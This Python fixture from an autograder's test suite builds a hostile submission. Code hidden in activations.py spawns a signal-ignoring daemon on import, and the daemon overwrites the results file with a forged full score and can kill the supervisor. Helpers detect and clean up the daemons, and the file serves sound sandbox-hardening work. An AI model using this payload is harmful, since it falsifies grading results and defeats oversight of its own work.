"""A submission that leaves a forger behind: a double-forked daemon that rewrites the
results file with a full score for as long as it lives.

The reference solution, with code appended to ``activations.py`` that runs when the
worker imports it: it forks, the child starts a new session and forks the daemon, and
exits (so the daemon is an orphan in a session of its own, as a real daemon). The
daemon names itself ``marker`` (``PR_SET_NAME``), appends its pid to ``pids``,
ignores SIGTERM, SIGINT and SIGHUP, and then, every few milliseconds, writes a forged
document (score 100, "forged" in its output) over ``target`` whenever that file is not
forged already; so if it outlives the grading it undoes whatever the grader wrote last.
With ``kill_above``, the worker then kills its zygote and its supervisor, so that the
daemon is adopted by whatever process is above them (possible only without a sandbox).
Where fork is refused (every sandbox layer), the import goes on and nothing is left.
"""

from __future__ import annotations

import os
from pathlib import Path

from tests.grader.test_plots import student_files

FORGED = {"score": 100.0, "output": "forged by a daemon", "tests": []}

CODE = r'''

def _forge(marker, pids, target, forged, once, kill_above):
    import ctypes, json, os, signal, time
    if os.path.exists(once):
        return
    try:
        open(once, "w").close()
    except OSError:
        pass
    try:
        child = os.fork()
    except OSError:
        return
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, marker.encode(), 0, 0, 0)
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
                signal.signal(sig, signal.SIG_IGN)
            try:
                with open(pids, "a") as handle:
                    handle.write(f"{os.getpid()}\n")
            except OSError:
                pass
            text = json.dumps(forged)
            while True:
                try:
                    with open(target) as handle:
                        current = handle.read()
                except OSError:
                    current = ""
                if "forged" not in current:
                    try:
                        os.makedirs(os.path.dirname(target), exist_ok=True)
                        with open(target, "w") as handle:
                            handle.write(text)
                    except OSError:
                        pass
                time.sleep(0.005)
        os._exit(0)
    os.waitpid(child, 0)
    if kill_above:
        supervisor = os.getppid()
        with open(f"/proc/{supervisor}/stat") as stat:
            zygote = int(stat.read().rpartition(")")[2].split()[1])
        os.kill(zygote, signal.SIGKILL)
        os.kill(supervisor, signal.SIGKILL)


_forge(@ARGS@)
'''


def forger_files(folder: Path, target: Path, marker: str, *,
                 kill_above: bool = False) -> dict[str, bytes]:
    """The submission's files; ``folder`` receives the pids file and the once-only flag."""
    args = ", ".join(repr(a) for a in (marker, str(folder / "pids"), str(target), FORGED,
                                       str(folder / "once"), kill_above))
    return student_files(activations=CODE.replace("@ARGS@", args))


def pids_started(folder: Path) -> list[int]:
    """The pids the daemons recorded (none where they could not start or write)."""
    path = folder / "pids"
    return [int(line) for line in path.read_text().split()] if path.exists() else []


def alive(marker: str) -> list[int]:
    """Processes named ``marker`` that still run (zombies are not counted)."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            comm = Path(f"/proc/{entry}/comm").read_text().strip()
            state = Path(f"/proc/{entry}/stat").read_text().rpartition(")")[2].split()[0]
        except OSError:
            continue
        if comm == marker and state not in ("Z", "X"):
            found.append(int(entry))
    return found


def kill(pids: list[int]) -> None:
    """Clean up after a failed test: the daemons must not outlive it."""
    import signal

    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
